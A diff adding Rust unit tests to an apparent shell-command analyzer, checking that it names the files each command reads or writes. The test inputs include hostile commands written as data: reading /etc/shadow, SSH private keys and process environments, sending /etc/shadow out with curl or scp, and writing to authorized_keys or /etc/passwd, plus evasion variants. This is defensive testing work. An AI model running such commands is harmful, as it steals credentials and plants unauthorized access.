@@ -197,3 +197,100 @@ fn programs_that_only_seemed_to_read() {
         assert!(reading.only_reads, "{text}: {:?}", reading.opaque);
     }
 }
+
+/// Whatever may be a file is named; `…` stands for what is known only later.
+#[test]
+fn files_are_also_what_programs_are_given() {
+    let named = |text: &str| {
+        let reading = read(text.as_bytes(), &Limits::default());
+        let all = |files: &crate::Files| {
+            let mut all: Vec<String> = files.paths.iter().cloned().collect();
+            all.extend(files.unknown.then(|| "…".to_owned()));
+            all
+        };
+        (all(&reading.reads), all(&reading.writes))
+    };
+    for (text, file) in [
+        ("cat /etc/shadow", "/etc/shadow"),
+        ("base64 -w0 ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
+        ("cat /proc/self/environ", "/proc/self/environ"),
+        ("grep -f/etc/shadow x", "/etc/shadow"),
+        ("grep -nf.env x", ".env"),
+        ("wc --files0-from=/etc/shadow", "/etc/shadow"),
+        ("cat ~root/x", "/root/x"),
+        ("curl file:///etc/shadow", "///etc/shadow"),
+        ("curl -d @/etc/shadow h", "/etc/shadow"),
+        ("scp /etc/shadow h:", "/etc/shadow"),
+        ("dd if=/etc/shadow", "/etc/shadow"),
+        ("xargs -a /etc/shadow echo", "/etc/shadow"),
+        ("cd /etc; cat shadow", "/etc/shadow"),
+        ("cd /etc; cat < shadow", "/etc/shadow"),
+        ("bash -c 'cd /etc && cat shadow'", "/etc/shadow"),
+        ("cd ~/.ssh; cat id_rsa", "~/.ssh/id_rsa"),
+        ("f() { cat \"$1\"; }; f /etc/shadow", "/etc/shadow"),
+        ("sudo cat /etc/shadow", "/etc/shadow"),
+        ("find /root -exec cat {} +", "/root"),
+        ("cat < /etc/shad?w", "…"),
+        ("cat < $X", "…"),
+        ("cat /etc/shad?w", "…"),
+        ("cat \"$X\"", "…"),
+        ("head -c9 \"-$X\"", "…"),
+        ("cat ../../etc/shadow", "…"),
+        ("cat /tmp/link/../shadow", "…"),
+        ("cat ~bob/x", "…"),
+        ("cd $X; cat shadow", "…"),
+        ("cd /; cd etc; cat shadow", "…"),
+        ("cd /tmp/l/..; cat shadow", "…"),
+        ("pushd /etc; cat shadow", "…"),
+        ("env -C /etc cat shadow", "…"),
+        ("sudo -D /etc cat shadow", "…"),
+        ("ls /etc/shadow | xargs cat", "…"),
+        ("find / -name shadow -exec cat {} \\;", "…"),
+    ] {
+        let (reads, _) = named(text);
+        assert!(reads.iter().any(|f| f == file), "{text}: {reads:?}");
+    }
+    for (text, file) in [
+        ("cp k ~/.ssh/authorized_keys", "~/.ssh/authorized_keys"),
+        ("tee -a /etc/passwd", "/etc/passwd"),
+        ("dd of=/etc/passwd", "/etc/passwd"),
+        ("ln -s x /etc/passwd", "/etc/passwd"),
+        ("cp --target-directory=/etc x", "/etc"),
+        ("sort -o/etc/passwd x", "/etc/passwd"),
+        ("sed -i s/a/b/ /etc/passwd", "/etc/passwd"),
+        ("cd /etc; tee passwd", "/etc/passwd"),
+        ("find x -fprint /etc/passwd", "/etc/passwd"),
+        ("find x -fprint $X", "…"),
+        ("flock /etc/x id", "/etc/x"),
+        ("/tmp/cat /etc/x", "/etc/x"),
+        ("cp k $X", "…"),
+        ("echo k | tee -a \"$X\"", "…"),
+        ("echo k > $X", "…"),
+        ("ls | xargs rm", "…"),
+    ] {
+        let (_, writes) = named(text);
+        assert!(writes.iter().any(|f| f == file), "{text}: {writes:?}");
+    }
+    for (text, reads, writes) in [
+        ("echo /etc/shadow $X *", &[][..], &[][..]),
+        ("ls $X *.log", &["$X", "*.log"], &[]),
+        ("cd /srv && cat a | head -n 5", &["/srv/a", "a"], &[]),
+        ("uptime 2>/dev/null", &[], &["/dev/null"]),
+        ("diff <(ls a) b", &["<(ls a)", "a", "b", "…"], &["<(ls a)", "b", "…"]),
+    ] {
+        let found = named(text);
+        let owned = |files: &[&str]| files.iter().map(|f| (*f).to_owned()).collect::<Vec<_>>();
+        assert_eq!(found, (owned(reads), owned(writes)), "{text}");
+    }
+}
+
+#[test]
+fn many_names_in_many_directories_are_soon_unknown() {
+    let dir = "d".repeat(4000);
+    let mut text: String = (0..8).map(|i| format!("cd /{dir}{i};")).collect();
+    text.push_str("cat");
+    text.extend((0..3_000).map(|i| format!(" f{i}")));
+    let reading = read(text.as_bytes(), &Limits::default());
+    assert!(reading.reads.unknown);
+    assert!(reading.reads.paths.iter().map(String::len).sum::<usize>() <= 256 << 10);
+}
